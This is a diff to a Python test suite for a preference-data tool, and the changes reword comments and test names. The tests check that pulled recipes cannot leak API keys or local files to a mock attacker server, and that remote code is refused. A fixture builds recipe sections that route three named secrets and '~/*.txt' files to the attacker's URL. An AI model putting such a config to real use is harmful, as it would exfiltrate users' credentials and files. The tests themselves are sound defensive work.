@@ -25,7 +25,7 @@ from tests.train.tiny import TEMPLATE, tiny_model
 pytestmark = pytest.mark.slow
 RECIPE = "prefcurate/default/recipe.yaml"
 KEYS = ("AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "HF_TOKEN")
-PLANTED = "planted-secret"  # in every key and file that an attack is after
+PLANTED = "planted-secret"  # in every key and file that an attack targets
 
 
 @pytest.fixture(scope="module")
@@ -68,7 +68,7 @@ class Victim:
 
 
 def models(url: str) -> dict[str, Any]:
-    """Three keys and two files, all for the attacker's server."""
+    """Return sections that send three keys and two files to the attacker's server."""
     return {
         "source": {"paths": ["theirs/p.jsonl"]},
         "prompts": {"method": "documents", "model": f"openai:d@{url}", "documents": ["~/*.txt"], "n": 4},
@@ -83,7 +83,7 @@ def models(url: str) -> dict[str, Any]:
     }
 
 
-def test_keys_and_files_stay_here(tmp_path: Path, evil: ChatServer) -> None:
+def test_keys_and_files_are_not_sent(tmp_path: Path, evil: ChatServer) -> None:
     victim = Victim(tmp_path, models(evil.url), preload=forked.TRAINING)
     evil.forget()
     (tmp_path / "copied.yaml").write_bytes((tmp_path / "RUN" / "recipe.yaml").read_bytes())
@@ -102,7 +102,7 @@ def test_keys_and_files_stay_here(tmp_path: Path, evil: ChatServer) -> None:
     assert evil.asked == []
     assert not (tmp_path / "OUT").exists()
     assert PLANTED not in str(evil.authorized)
-    # What asks nothing of anyone works as before.
+    # Commands that need no consent work as before.
     assert victim("why", "RUN", "3").returncode == 0
     exported = victim("export", "RUN", "copy")
     assert exported.returncode == 0, exported.stderr
@@ -145,7 +145,7 @@ def test_training_runs_no_code(tmp_path: Path) -> None:
         )
     assert not (tmp_path / "RUN" / "training").exists()
     own = victim("preflight", "RUN", "--model", str(model), "--set", "trl.model_init_kwargs={}")
-    assert own.returncode in {0, 1}, own.stderr  # all that it uses is the user's own now
+    assert own.returncode in {0, 1}, own.stderr  # now all that it uses is the user's own
 
 
 def test_trust_remote_code_is_refused_while_pulling(tmp_path: Path) -> None:
@@ -162,7 +162,7 @@ def test_trust_remote_code_is_refused_while_pulling(tmp_path: Path) -> None:
         assert not (tmp_path / "RUN").exists()
 
 
-def test_the_mark_is_in_the_recipe_and_stays_there(tmp_path: Path) -> None:
+def test_the_origin_is_in_the_recipe_and_cannot_be_removed(tmp_path: Path) -> None:
     Victim(tmp_path, {"origin": {"repo": "me/mine", "revision": "x"}})
     origin = load_recipe(tmp_path / "RUN" / "recipe.yaml").origin
     assert origin is not None
@@ -175,7 +175,7 @@ def test_the_mark_is_in_the_recipe_and_stays_there(tmp_path: Path) -> None:
         _ = open_run(tmp_path / "RUN").recipe
 
 
-def test_a_pulled_run_is_made_again_by_one_command(tmp_path: Path) -> None:
+def test_a_pulled_run_is_repeated_by_one_command(tmp_path: Path) -> None:
     """Its source is on the Hub, and the template that its recipe names came with it."""
     raw = "\n".join(json.dumps(row(number)) for number in range(40)).encode()
     (tmp_path / "mine.jinja").write_text(TEMPLATE)
